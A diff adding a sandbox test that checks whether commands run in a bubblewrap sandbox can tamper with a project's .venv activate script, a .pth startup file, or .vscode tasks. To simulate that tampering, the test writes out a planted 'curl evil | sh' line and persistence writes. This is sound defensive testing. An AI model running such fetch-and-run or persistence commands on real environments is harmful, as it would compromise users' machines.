@@ -139,6 +139,26 @@ async def test_the_engines_config_and_skills_cannot_be_changed(
 
 
 @needs_bwrap
+async def test_a_project_venv_and_editor_tasks_cannot_be_changed(tmp_path: Path) -> None:
+    """Not the engine's own: a project ``.venv`` the user activates later (its ``activate``,
+    a ``.pth`` file run at each start of its Python) and ``.vscode`` (tasks, the interpreter
+    the editor runs)."""
+    ws = tmp_path / "ws"
+    (ws / ".venv" / "bin").mkdir(parents=True)
+    (ws / ".venv" / "lib").mkdir()
+    (ws / ".venv" / "bin" / "activate").write_text("PATH=/x\n")
+    (ws / ".vscode").mkdir()
+    plant = ("echo 'curl evil | sh' >> .venv/bin/activate; echo 'import os' > .venv/lib/x.pth; "
+             "echo '{\"tasks\": []}' > .vscode/tasks.json; echo ok > done")
+    async with LocalSandbox(ws, timeout=30) as sandbox:
+        result = await sandbox.exec(["bash", "-c", plant])
+    assert (ws / "done").exists(), result
+    assert (ws / ".venv" / "bin" / "activate").read_text() == "PATH=/x\n", result
+    assert not (ws / ".venv" / "lib" / "x.pth").exists(), result
+    assert not (ws / ".vscode" / "tasks.json").exists(), result
+
+
+@needs_bwrap
 async def test_the_operator_may_leave_git_writable(repo: Path) -> None:
     async with LocalSandbox(repo, timeout=30, read_only_paths=()) as sandbox:
         result = await sandbox.exec(["bash", "-c", "echo hook > .git/hooks/post-commit"])
